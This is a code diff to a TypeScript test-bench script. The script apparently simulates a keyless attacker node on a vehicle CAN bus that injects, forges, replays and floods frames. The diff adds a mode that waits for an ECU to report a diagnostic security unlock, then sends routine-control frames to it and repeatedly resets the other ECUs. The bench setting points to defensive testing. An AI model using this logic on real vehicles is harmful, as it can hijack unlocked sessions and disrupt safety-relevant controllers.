@@ -1,5 +1,5 @@
 // A node without any key on the bus of a bench, as a process: it listens, injects, forges answers, replays and floods.
-// Arguments: bus, seed, ways with commas between them. It prints a line of JSON when it listens and one when it is told to end.
+// Arguments: bus, seed, ways with commas between them (`wait`: for an ECU that somebody unlocks). It prints a line of JSON when it listens and one when it is told to end.
 
 import type { CanFrame } from '../../../src/bus/can-frame.ts';
 import { classicFrame } from '../../../src/bus/can-frame.ts';
@@ -50,6 +50,7 @@ const ANSWERS = [
   '300000',
 ];
 
+let timer: NodeJS.Timeout | undefined;
 const [, , bus = '', seed = '', ways = ''] = process.argv;
 const random = seededRandom(`attacker ${seed}`);
 const pick = <T>(list: readonly T[]): T => list[Math.floor(random.fraction() * list.length)]!;
@@ -68,6 +69,24 @@ opened.bus.subscribe([], ({ frame }) => {
   // What erases and programs is of no use; what decides is in the short messages.
   if (isRequest && (frame.data[0]! >> 4 !== 2 || heard.at(-1)?.id === frame.id)) heard.push(frame);
   if (heard.length > KEPT) heard.shift();
+});
+
+/** An ECU has just said that it is unlocked (67 and an even level). */
+const UNLOCKED = /^0267(?:0[2468ace])/;
+opened.bus.subscribe([], ({ frame }) => {
+  const ecu = ECUS.find(({ response }) => response === frame.id);
+  if (ecu === undefined || timer === undefined || !isChosen('wait')) return;
+  if (!UNLOCKED.test(Buffer.from(frame.data).toString('hex'))) return;
+  // Confirmed and raised for good, while the others lose their trials.
+  send(frameOf(ecu.request, '0431010211', ecu.extended));
+  send(frameOf(ecu.request, '0431010213', ecu.extended));
+  let left = 20;
+  const resets = setInterval(() => {
+    for (const other of ECUS) {
+      if (other !== ecu) send(frameOf(other.request, '021101', other.extended));
+    }
+    if (--left === 0) clearInterval(resets);
+  }, 250);
 });
 
 let sent = 0;
@@ -102,8 +121,10 @@ const attacks: Record<string, () => void> = {
   },
 };
 
-const chosen = ways.split(',').map((way) => attacks[way]!);
-let timer: NodeJS.Timeout | undefined;
+const chosen = ways.split(',').map((way) => attacks[way] ?? (() => {}));
+function isChosen(way: string): boolean {
+  return ways.split(',').includes(way);
+}
 // It listens from the beginning, and sends once it is told to.
 process.stdin.once('data', () => {
   timer = setInterval(() => pick(chosen)(), 25);
